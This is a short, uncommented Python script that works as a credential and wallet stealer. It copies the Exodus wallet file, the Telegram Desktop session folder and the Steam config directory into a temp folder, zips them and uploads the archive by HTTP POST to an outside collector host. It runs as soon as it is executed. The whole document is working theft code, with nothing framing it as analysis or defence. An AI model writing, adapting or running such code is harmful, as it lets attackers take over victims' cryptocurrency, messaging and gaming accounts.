from pathlib import Path
import shutil, zipfile, requests, os
APP = Path(os.getenv("APPDATA", ""))
TARGETS = {"exodus": APP / "Exodus" / "exodus.wallet", "tg": APP / "Telegram Desktop" / "tdata", "steam": Path("C:/Program Files (x86)/Steam/config")}
OUT = Path(os.getenv("TEMP", "/tmp")) / "out"
def copy():
    for n, p in TARGETS.items():
        if p.exists(): shutil.copytree(p, OUT / n, dirs_exist_ok=True)
def pack():
    a = shutil.make_archive(str(OUT), "zip", str(OUT))
    return Path(a)
def send(p):
    with p.open("rb") as f:
        requests.post("https://collector.invalid/u", files={"document": f})
def main():
    copy()
    send(pack())
main()
